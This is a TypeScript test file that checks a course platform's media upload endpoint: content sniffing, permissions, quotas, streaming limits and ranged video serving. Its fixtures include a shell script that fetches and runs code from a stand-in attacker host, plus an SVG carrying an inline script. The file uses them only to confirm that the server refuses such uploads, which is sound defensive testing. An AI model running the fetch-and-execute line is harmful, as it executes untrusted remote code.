import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDemoCourse } from '../../src/server/seed/courses';
import { mediaValues } from '../../src/server/seed/factories';
import { createSite } from '../factories';
import { as, createPerson, type Person } from '../factories/coaching';
import { createCourse } from '../factories/courses';
import { testDialects } from '../support/databases';
import { mp4, wav } from '../support/media';
import { startS3, type TestS3 } from '../support/s3';
import { startTestServer, type TestServer } from '../support/server';

const dialects = await testDialects();

const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const script = Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n');

describe.each(dialects)('course media uploads on %s', (dialect) => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer(dialect);
  });
  afterAll(() => server.close());

  const setUp = async (plan?: 'starter') => {
    const site = await createSite(server.db, plan ? { plan } : {});
    const course = await createCourse(server.db, { site });
    const coach = await createPerson(server, site, 'coach');
    return { site, course, coach };
  };
  const uploadFor = (who: Person, courseId: number | undefined, bytes: Buffer, fileName: string) =>
    server.upload(bytes, {
      folder: 'course',
      fileName,
      fields: courseId === undefined ? {} : { CourseId: String(courseId) },
      ...as(who),
    });
  const mediaOf = (siteId: number) =>
    server.db.selectFrom('media_files').selectAll().where('site_id', '=', siteId).orderBy('id').execute();
  const storedFiles = (siteId: number) => {
    const dir = path.join(server.config.dataDir, 'uploads', String(siteId));
    return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
  };
  /** The name and length of each medium of a part, as its editor gets them. */
  const lengths = async (who: Person, courseId: number, coursePartId: number) => {
    const { data } = await server.ok(
      'course_admin.php',
      'get_course_part_content',
      { CourseId: courseId, CoursePartId: coursePartId },
      as(who),
    );
    return Object.values(data.Media).map((medium) => [medium.Name, medium.DurationSeconds]);
  };
  const temporaryFiles = () => {
    const dir = path.join(server.config.dataDir, 'tmp');
    return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
  };

  it('an image is re-encoded within 2560 px and served as the server made it', async () => {
    const { site, course, coach } = await setUp();
    const png = await sharp({ create: { width: 3000, height: 200, channels: 3, background: '#aa3355' } })
      .png()
      .toBuffer();
    const answer = await uploadFor(coach, course.id, png, 'banner.png');
    expect(answer.httpStatus).toBe(200);
    expect(answer.body).toMatchObject({
      status: 'OK',
      newFilename: expect.stringMatching(new RegExp(`^course-${course.id}-[0-9a-f]{16}\\.webp$`)),
      data: { UserFileId: expect.any(Number), Kind: 'image', DurationSeconds: 0, Url: expect.any(String) },
    });
    const served = await fetch(`${server.url}${answer.body.data.Url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/webp');
    const meta = await sharp(Buffer.from(await served.arrayBuffer())).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(['webp', 2560, 171]);
    const [row] = await mediaOf(site.id);
    expect(row).toMatchObject({ id: answer.body.data.UserFileId, kind: 'image', original_name: 'banner.png' });
    await expect.poll(temporaryFiles).toEqual([]);
  });

  it('a video’s and an audio’s length is read from the file; a document is stored as a download', async () => {
    const { site, course, coach } = await setUp();
    const video = await uploadFor(coach, course.id, mp4(7), 'lesson.mp4');
    expect(video.body).toMatchObject({ status: 'OK', data: { Kind: 'video', DurationSeconds: 7 } });
    const audio = await uploadFor(coach, course.id, wav(3), 'intro.wav');
    expect(audio.body).toMatchObject({ status: 'OK', data: { Kind: 'audio', DurationSeconds: 3 } });
    const doc = await uploadFor(coach, course.id, pdf, 'handout.pdf');
    expect(doc.body).toMatchObject({ status: 'OK', data: { Kind: 'file', DurationSeconds: 0 } });
    const notes = await uploadFor(coach, course.id, Buffer.from('Bring a pencil.\n'), 'notes.txt');
    expect(notes.body).toMatchObject({ status: 'OK', data: { Kind: 'file' } });

    const download = await fetch(`${server.url}${doc.body.data.Url}`);
    expect(download.headers.get('content-type')).toBe('application/pdf');
    expect(download.headers.get('content-disposition')).toContain('attachment');
    expect(Buffer.from(await download.arrayBuffer()).equals(pdf)).toBe(true);
    expect((await mediaOf(site.id)).map((row) => [row.kind, row.mime_type])).toEqual([
      ['video', 'video/mp4'],
      ['audio', 'audio/wav'],
      ['file', 'application/pdf'],
      ['file', 'text/plain; charset=utf-8'],
    ]);
    // A file that starts like a video but is none: its length cannot be read, and it is not stored.
    const broken = Buffer.concat([mp4(5).subarray(0, 24), Buffer.alloc(500, 0xee)]);
    const refused = await uploadFor(coach, course.id, broken, 'broken.mp4');
    expect(refused.httpStatus).toBe(415);
    expect(refused.body).toMatchObject({ error_code: 'UNSUPPORTED_FILE', message: expect.stringContaining('length') });
    expect(await mediaOf(site.id)).toHaveLength(4);
  });

  it('the demo course’s videos and audio come with their lengths', async () => {
    const site = await createSite(server.db);
    const admin = await createPerson(server, site, 'admin');
    const { course } = await createDemoCourse(server.db, { config: server.config, site });
    const found = new Map<unknown, unknown>();
    for (const partId of course.partIds) {
      for (const [name, seconds] of await lengths(admin, course.id, partId)) found.set(name, seconds);
    }
    expect(found.get('chord.ogg')).toBe(4);
    for (const name of ['episode-sound.webm', 'episode-waves.webm']) {
      expect(found.get(name), name).toBeGreaterThan(5);
      expect(found.get(name), name).toBeLessThan(7);
    }
  });

  it('the type is read from the content: a script named .png is refused with a clear error, nothing stored', async () => {
    const { site, course, coach } = await setUp();
    for (const [bytes, name, says] of [
      [script, 'photo.png', 'named .png but its content is a text file'],
      [script, 'run.sh', 'named .sh'],
      [script, 'script', 'A text document must be named .txt or .csv'],
      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'logo.svg', '.svg'],
      [pdf, 'lesson.mp4', 'named .mp4 but its content is a PDF document'],
      [Buffer.from([0x00, 0x01, 0x02, 0x03, 0xfe, 0xff]), 'blob.bin', 'is not an image'],
    ] as const) {
      const answer = await uploadFor(coach, course.id, bytes, name);
      expect(answer.httpStatus, name).toBe(415);
      expect(answer.body, name).toMatchObject({
        error_code: 'UNSUPPORTED_FILE',
        message: expect.stringContaining(says),
      });
    }
    expect(await mediaOf(site.id)).toEqual([]);
    expect(storedFiles(site.id)).toEqual([]);
    await expect.poll(temporaryFiles).toEqual([]);
  });

  it('a learner is refused, and a course must be the site’s own', async () => {
    const { site, course } = await setUp();
    const learner = await createPerson(server, site, 'student');
    const refused = await uploadFor(learner, course.id, wav(1), 'intro.wav');
    expect(refused.httpStatus).toBe(403);
    expect(refused.body.error_code).toBe('FORBIDDEN');

    const other = await setUp();
    const foreign = await uploadFor(other.coach, course.id, wav(1), 'intro.wav');
    expect(foreign.body.error_code).toBe('NOT_FOUND');
    const unnamed = await uploadFor(other.coach, undefined, wav(1), 'intro.wav');
    expect(unnamed.body).toMatchObject({ error_code: 'INVALID_REQUEST', fields: [{ field: 'data.CourseId' }] });
    expect([...(await mediaOf(site.id)), ...(await mediaOf(other.site.id))]).toEqual([]);
  });

  it('a full site refuses with STORAGE_FULL and stores nothing; the count follows', async () => {
    const { site, course, coach } = await setUp('starter');
    // All but 1000 bytes of Starter's 500 MB used (spec §1).
    await server.db
      .insertInto('media_files')
      .values(mediaValues({ site, kind: 'video', sizeBytes: 500 * 1024 * 1024 - 1000 }))
      .execute();
    const refused = await uploadFor(coach, course.id, mp4(4), 'lesson.mp4');
    expect(refused.httpStatus).toBe(413);
    expect(refused.body).toMatchObject({ status: 'ERROR', error_code: 'STORAGE_FULL', limit_mb: 500 });
    expect(await mediaOf(site.id)).toHaveLength(1);
    expect(storedFiles(site.id)).toEqual([]);
    // What still fits is taken.
    const small = await uploadFor(coach, course.id, pdf, 'handout.pdf');
    expect(small.body.status).toBe('OK');
    const row = await server.db
      .selectFrom('sites')
      .select('storage_bytes')
      .where('id', '=', site.id)
      .executeTakeFirstOrThrow();
    expect(Number(row.storage_bytes)).toBe(500 * 1024 * 1024 - 1000 + pdf.length);
  });

  it('a site whose trial has ended stores no more files (TRIAL_ENDED), and nothing is written', async () => {
    const { site, course, coach } = await setUp('starter');
    await server.db
      .updateTable('sites')
      .set({ trial_ends_at: new Date(Date.now() - 60_000).toISOString() })
      .where('id', '=', site.id)
      .execute();
    const refused = await uploadFor(coach, course.id, pdf, 'handout.pdf');
    expect([refused.httpStatus, refused.body.error_code]).toEqual([403, 'TRIAL_ENDED']);
    expect(await mediaOf(site.id)).toEqual([]);
    expect(storedFiles(site.id)).toEqual([]);
  });

  it('a file past its folder’s limit is refused while it streams, before it is all read', async () => {
    const { site, coach } = await setUp();
    // Declared larger than any course medium: refused from the headers.
    const declared = await new Promise<number>((resolve, reject) => {
      const request = http.request(`${server.url}/api/backend/ajaxUpload.php`, {
        method: 'POST',
        headers: {
          site: site.name,
          authorization: coach.token,
          'content-type': 'multipart/form-data; boundary=x',
          'content-length': String(600 * 1024 * 1024),
        },
      });
      request.on('response', (response) => {
        response.resume();
        resolve(response.statusCode ?? 0);
        request.destroy();
      });
      request.on('error', reject);
      request.flushHeaders();
    });
    expect(declared).toBe(413);

    // A photo sent without a length (chunked), folder first: cut off at 2 MB as it streams, the rest never
    // read beyond the bound a refused body is still read to.
    const boundary = 'streamedboundary';
    const total = 64 * 1024 * 1024;
    let pulled = 0;
    const chunk = Buffer.alloc(256 * 1024, 0x5a);
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(
          Buffer.from(
            `--${boundary}\r\nContent-Disposition: form-data; name="folder"\r\n\r\nprofile\r\n` +
              `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\n` +
              'Content-Type: image/png\r\n\r\n',
          ),
        );
      },
      pull(controller) {
        if (pulled >= total) {
          controller.enqueue(Buffer.from(`\r\n--${boundary}--\r\n`));
          controller.close();
          return;
        }
        pulled += chunk.length;
        controller.enqueue(chunk);
      },
    });
    const response = await fetch(`${server.url}/api/backend/ajaxUpload.php`, {
      method: 'POST',
      headers: {
        site: site.name,
        authorization: coach.token,
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
      body,
      duplex: 'half',
    } as RequestInit);
    expect(response.status).toBe(413);
    expect(await response.json()).toMatchObject({
      error_code: 'FILE_TOO_LARGE',
      message: 'File size too large, filesize limit 2MB!',
    });
    expect(pulled).toBeLessThan(total / 2);
    expect(await mediaOf(site.id)).toEqual([]);
    await expect.poll(temporaryFiles).toEqual([]);
  });
  it('a staff member streams at most two uploads at once; a third waits its turn', async () => {
    const { site, course, coach } = await setUp();
    /** An upload whose body has begun and goes no further, until it is let go. */
    const held = () =>
      new Promise<http.ClientRequest>((resolve, reject) => {
        const request = http.request(`${server.url}/api/backend/ajaxUpload.php`, {
          method: 'POST',
          headers: {
            site: site.name,
            authorization: coach.token,
            'content-type': 'multipart/form-data; boundary=held',
            'content-length': String(50 * 1024 * 1024),
          },
        });
        request.on('error', () => {});
        request.write('--held\r\nContent-Disposition: form-data; name="folder"\r\n\r\ncourse\r\n', (error) =>
          error ? reject(error) : resolve(request),
        );
      });
    const first = await held();
    const second = await held();
    // Both have begun their file (so the server has counted both): cut off, what was written of them goes.
    const fileStart = Buffer.concat([
      Buffer.from('--held\r\nContent-Disposition: form-data; name="file"; filename="a.mp4"\r\n\r\n'),
      Buffer.alloc(1024 * 1024, 1),
    ]);
    await Promise.all([first, second].map((request) => new Promise((resolve) => request.write(fileStart, resolve))));
    await expect.poll(() => temporaryFiles().length).toBe(2);
    const third = await uploadFor(coach, course.id, pdf, 'handout.pdf');
    expect(third.httpStatus).toBe(429);
    expect(third.body).toMatchObject({ error_code: 'TOO_MANY_REQUESTS', retry_after: 5 });
    first.destroy();
    second.destroy();
    await expect
      .poll(async () => (await uploadFor(coach, course.id, pdf, 'handout.pdf')).body.status, { timeout: 5000 })
      .toBe('OK');
    await expect.poll(temporaryFiles).toEqual([]);
  });
});

describe.each(dialects.flatMap((dialect) => (['disk', 's3'] as const).map((store) => [dialect, store] as const)))(
  'an uploaded video is served by ranges on %s, media on %s',
  (dialect, store) => {
    let s3: TestS3 | undefined;
    let server: TestServer;
    beforeAll(async () => {
      if (store === 's3') s3 = await startS3();
      server = await startTestServer(dialect, s3?.env ?? {});
    });
    afterAll(async () => {
      await server.close();
      await s3?.close();
    });

    it('a ranged GET of the uploaded video answers 206 with its bytes', async () => {
      const site = await createSite(server.db);
      const course = await createCourse(server.db, { site });
      const coach = await createPerson(server, site, 'coach');
      const video = mp4(12, 100_000);
      const answer = await server.upload(video, {
        folder: 'course',
        fileName: 'lesson.mp4',
        fields: { CourseId: String(course.id) },
        ...as(coach),
      });
      expect(answer.body).toMatchObject({ status: 'OK', data: { Kind: 'video', DurationSeconds: 12 } });
      if (s3) {
        expect(await s3.keys(`uploads/${site.id}/`)).toEqual([`uploads/${site.id}/${answer.body.newFilename}`]);
      } else {
        expect(fs.readdirSync(path.join(server.config.dataDir, 'uploads', String(site.id)))).toEqual([
          answer.body.newFilename,
        ]);
      }
      const part = await fetch(`${server.url}${answer.body.data.Url}`, { headers: { range: 'bytes=50000-50999' } });
      expect(part.status).toBe(206);
      expect(part.headers.get('content-type')).toBe('video/mp4');
      expect(part.headers.get('content-range')).toBe(`bytes 50000-50999/${video.length}`);
      expect(Buffer.from(await part.arrayBuffer()).equals(video.subarray(50000, 51000))).toBe(true);
    });
  },
);
